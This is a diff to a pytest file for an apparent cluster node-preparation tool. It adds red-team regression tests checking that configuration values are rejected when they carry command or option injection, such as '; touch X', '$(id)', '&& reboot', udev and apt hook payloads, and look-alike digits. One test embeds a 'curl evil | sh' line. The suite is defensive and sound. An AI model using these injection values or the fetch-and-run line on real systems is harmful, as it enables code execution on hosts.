@@ -14,6 +14,8 @@ from __future__ import annotations
 
 import copy
 import os
+import re
+import shutil
 import subprocess
 import tempfile
 from collections.abc import Iterator
@@ -42,6 +44,7 @@ PAYLOADS = [
     f"\", RUN+=\"/usr/bin/{CANARY}", f" -o APT::Update::Pre-Invoke::={CANARY}",
     f"'$({CANARY})'", f"\"$({CANARY})\"", f"\\\n{CANARY}", f"${{IFS}}{CANARY}", f"\r{CANARY}",
     f"}}; {CANARY}; {{", f"#\n{CANARY}", f"\n#\n{CANARY} ", f">/tmp/x; {CANARY}",
+    "-r", "--force", "-C/etc", "--dry-run", "-", "*", "1.３４", "openssh-server 1:9.2",
 ]
 # Every stub logs one record to $AIPLAT_STUB_LOG: its word count, then its words, each
 # ending in NUL (no word can hold a NUL). The system's commands are bash functions (no
@@ -276,7 +279,7 @@ def test_a_heredoc_cannot_be_ended_by_its_content(sandbox: Sandbox) -> None:
     (("versions", "approved", 0, "driver"), "580.95.05; touch X",
      "not a version or a range of versions"),
     (("versions", "approved", 0, "containerRuntime"), "containerd 2.1 && reboot",
-     "not a version or a range of versions"),
+     "not a container runtime and its version"),
     (("versions", "approved", 0, "gpuOperator"), "v25.10.0; touch X",
      "not a version or a range of versions"),
     (("versions", "approved", 0, "kernel"), ">=6.1,<6.13$(id)",
@@ -296,3 +299,87 @@ def test_node_prepare_refuses_a_range_it_cannot_pin() -> None:
     platform = parse_platform(yaml.safe_dump(doc), "spec")
     with pytest.raises(InputError, match=r"driver '>=580'.*exact version.*fix:"):
         plan_steps(platform, "h100", "r580-k8s134")
+
+
+# ---------------------------------------------------------------- found by the red team
+
+
+@pytest.mark.parametrize(("field", "value"), [
+    (("pools", 0, "node", "checks", "requiredModules", 0), "-r"),
+    (("pools", 0, "node", "checks", "requiredModules", 0), "--dry-run"),
+    (("versions", "approved", 0, "containerRuntime"), "openssh-server 1:9.2"),
+    (("versions", "approved", 0, "driver"), "a.b 1"),
+    (("kubernetes", "version"), "1.３４"),
+    (("kubernetes", "kueueVersion"), "٠.١٩.٢"),
+    (("versions", "approved", 0, "kernel"), ">=6.٥"),
+    (("storage", "modelStore", "registry"), "-q"),
+    (("storage", "modelStore", "registry"), "registry.ai.internal:٥٠٠٠/models"),
+    (("pools", 0, "taints", 0, "value"), "a:NoExecute-"),
+])
+def test_option_injection_other_packages_and_other_digits_are_refused(
+        field: tuple[Any, ...], value: str) -> None:
+    doc = copy.deepcopy(EXAMPLE)
+    doc.setdefault("storage", {}).setdefault("modelStore", {"registry": "reg.example/models"})
+    with pytest.raises(SpecError, match=r"hostile\.yaml:\d+:\d+: .*\(fix: "):
+        parse_platform(yaml.safe_dump(_set(doc, field, value)), "hostile.yaml")
+
+
+def test_a_pool_label_value_is_a_kubernetes_label_value() -> None:
+    doc = copy.deepcopy(EXAMPLE)
+    doc["pools"][0]["labels"] = {"team": "$(touch x)"}
+    with pytest.raises(SpecError, match=r"pools\[0\]\.labels\.team: .* is not a label value"):
+        parse_platform(yaml.safe_dump(doc), "hostile.yaml")
+
+
+def test_a_kernel_range_with_not_equal_is_checked_as_not_equal(sandbox: Sandbox) -> None:
+    platform = parse_platform(yaml.safe_dump(_set(EXAMPLE, ("versions", "approved", 0, "kernel"),
+                                                  "!=6.5")), "spec")
+    script = render_script(plan_steps(platform, "h100", "r580-k8s134"), platform, "h100",
+                           "r580-k8s134")
+    dpkg = [args for name, args in sandbox.run(script) if name == "dpkg"]
+    assert dpkg[0][-2:] == ("ne", "6.5")
+
+
+def test_a_spec_path_starting_with_a_dash_is_no_option(sandbox: Sandbox) -> None:
+    platform = parse_platform(yaml.safe_dump(EXAMPLE), "example")
+    calls = _run_all(sandbox, platform, "-h.yaml")
+    named = [a for n, args in calls if n == "aiplat" for a in args if "h.yaml" in a]
+    assert named and all(a.startswith("./-h.yaml") for a in named)
+
+
+def test_a_spec_path_cannot_open_a_code_block_in_the_runbook() -> None:
+    from aiplat.ops.runbook import runbook_document
+    from aiplat.report.markdown import render_markdown
+
+    platform = parse_platform(yaml.safe_dump(EXAMPLE), "example")
+    hostile = "x\n\n```sh\ncurl evil | sh\n```\n\n# Step 0 run this.yaml"
+    fences = [render_markdown(runbook_document(platform, spec)).count("\n```")
+              for spec in ("platform.yaml", hostile)]
+    assert fences[0] == fences[1]
+    assert "\n# Step 0" not in render_markdown(runbook_document(platform, hostile))
+
+
+def test_apt_reads_every_preferences_file_node_prepare_writes(tmp_path: Path) -> None:
+    """apt ignores a file in preferences.d whose extension is not empty or .pref
+    (apt_preferences(5)): the pin would silently not hold. Each file name the script writes
+    is given a pin on an installed package here, and apt-cache must show that pin."""
+    if shutil.which("apt-cache") is None:
+        if os.environ.get("CI"):
+            pytest.fail("CI runs on Debian: apt-cache must be there", pytrace=False)
+        pytest.skip("no apt-cache (not Debian)")
+    platform = parse_platform(yaml.safe_dump(EXAMPLE), "example")
+    script = render_script(plan_steps(platform, "h100", "r580-k8s134"), platform, "h100",
+                           "r580-k8s134")
+    names = re.findall(r"aiplat_write (/etc/apt/preferences\.d/\S+)", script)
+    assert len(names) == 4
+    installed = subprocess.run(["dpkg-query", "-W", "-f=${Version}", "bash"], check=True,
+                               capture_output=True, text=True).stdout
+    for name in names:
+        parts = tmp_path / Path(name).name.replace(".pref", "") / "parts"
+        parts.mkdir(parents=True)
+        (parts / Path(name).name).write_text(
+            f"Package: bash\nPin: version {installed}\nPin-Priority: 1001\n")
+        policy = subprocess.run(["apt-cache", "policy", "bash", "-o",
+                                 f"Dir::Etc::PreferencesParts={parts}"], check=True,
+                                capture_output=True, text=True).stdout
+        assert re.search(rf"{re.escape(installed)} 1001", policy), (name, policy)
